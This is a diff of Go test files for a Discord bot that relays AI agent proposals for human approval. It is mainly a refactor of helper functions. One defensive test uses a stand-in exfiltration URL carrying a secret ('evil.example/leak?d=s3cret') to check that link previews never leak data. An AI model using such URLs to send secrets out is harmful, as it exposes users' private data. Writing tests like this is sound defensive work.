@@ -13,6 +13,7 @@ import (
 
 	"github.com/agentd/agentd/api"
 	"github.com/agentd/agentd/bots"
+	"github.com/agentd/agentd/internal/chattest"
 	"github.com/agentd/agentd/internal/fakediscord"
 )
 
@@ -37,7 +38,7 @@ func (e *env) botMessages(channels ...string) []fakediscord.Message {
 func TestNoLinkPreviewsEver(t *testing.T) {
 	e := newEnv(t)
 	leak := "https://evil.example/leak?d=s3cret"
-	e.script(reply("bots_test_touch", map[string]string{"what": "a"}), reply("write_file", map[string]string{"path": "x.txt", "text": leak}))
+	e.Script(reply("bots_test_touch", map[string]string{"what": "a"}), reply("write_file", map[string]string{"path": "x.txt", "text": leak}))
 	thread := e.startRun("fetch " + leak)
 	p := e.proposal(thread, 1)
 	e.click(uAlice, thread, p, ActionApprove)
@@ -66,7 +67,7 @@ func TestNoLinkPreviewsEver(t *testing.T) {
 
 func TestRunAckedInTimeWhilePostsAreRateLimited(t *testing.T) {
 	e := newEnv(t)
-	e.script(reply("bots_test_touch", map[string]string{"what": "a"}), reply("bots_test_touch", map[string]string{"what": "b"}))
+	e.Script(reply("bots_test_touch", map[string]string{"what": "a"}), reply("bots_test_touch", map[string]string{"what": "b"}))
 	thread := e.startRun("first")
 	e.proposal(thread, 1)
 	// A global 429 on posts: discordgo then holds every call for 5 s, past Discord's 3 s.
@@ -109,7 +110,7 @@ func TestHostileLongProposalFitsAfterEscaping(t *testing.T) {
 			"plan": "- write", "speak": nasty[:1000]},
 		"command": map[string]any{"name": "write_file", "args": map[string]string{"path": "x.txt", "contents": nasty[:2000]}},
 	})
-	e.script(string(b))
+	e.Script(string(b))
 	thread := e.startRun("write it")
 	p := e.proposal(thread, 1)
 	checkContent(t, p.Content)
@@ -182,7 +183,7 @@ func TestDecisionLandsInArchivedThread(t *testing.T) {
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			e := newEnv(t)
-			e.script(reply("bots_test_touch", map[string]string{"what": "a"}))
+			e.Script(reply("bots_test_touch", map[string]string{"what": "a"}))
 			thread := e.startRun("touch")
 			p := e.proposal(thread, 1)
 			tc.close(e.fake, thread)
@@ -226,15 +227,15 @@ func TestDecisionShownWhereTheRunContinues(t *testing.T) {
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			e := newEnv(t)
-			e.script(reply("bots_test_touch", map[string]string{"what": "a"}), reply("bots_test_touch", map[string]string{"what": "b"}))
+			e.Script(reply("bots_test_touch", map[string]string{"what": "a"}), reply("bots_test_touch", map[string]string{"what": "b"}))
 			thread := e.startRun("touch")
 			p := e.proposal(thread, 1)
 			if err := tc.close(e.fake, thread); err != nil {
 				t.Fatal(err)
 			}
-			drain()
+			chattest.Drain()
 			e.click(uAlice, thread, p, ActionApprove)
-			e.touchedInOrder("a")
+			chattest.TouchedInOrder(e.t, "a")
 			next := e.continuation(thread)
 			if m := e.channelNote(thread); !strings.Contains(m, tc.why) {
 				t.Errorf("the continuation note %q does not say %q", m, tc.why)
@@ -264,7 +265,7 @@ func TestDecisionShownWhereTheRunContinues(t *testing.T) {
 				}
 			}
 			e.say(uAlice, next, "y")
-			e.touchedInOrder("b")
+			chattest.TouchedInOrder(e.t, "b")
 		})
 	}
 }
@@ -304,7 +305,7 @@ func (r *recorder) OnMessage(ctx context.Context, in bots.Incoming) {
 func TestContractFieldsAndRedelivery(t *testing.T) {
 	rec := &recorder{}
 	e := newEnvWith(t, &env{wrap: func(r Relay) Relay { rec.Relay = r; return rec }})
-	e.script(reply("bots_test_touch", map[string]string{"what": "a"}), reply("bots_test_touch", map[string]string{"what": "b"}))
+	e.Script(reply("bots_test_touch", map[string]string{"what": "a"}), reply("bots_test_touch", map[string]string{"what": "b"}))
 	thread := e.startRun("touch")
 	p := e.proposal(thread, 1)
 	agent := e.agentOf(thread)
@@ -348,8 +349,8 @@ func TestContractFieldsAndRedelivery(t *testing.T) {
 		}
 		return n == 2
 	})
-	e.wait("the bot to ignore it", func() bool { return strings.Contains(e.logs.String(), "interaction not acknowledged; ignoring it") })
-	if n := e.decisions(c.Ref.ProposalID); n != 1 {
+	e.wait("the bot to ignore it", func() bool { return strings.Contains(e.Logs.String(), "interaction not acknowledged; ignoring it") })
+	if n := e.Decisions(c.Ref.ProposalID); n != 1 {
 		t.Errorf("decisions on %s = %d, want 1", c.Ref.ProposalID, n)
 	}
 }
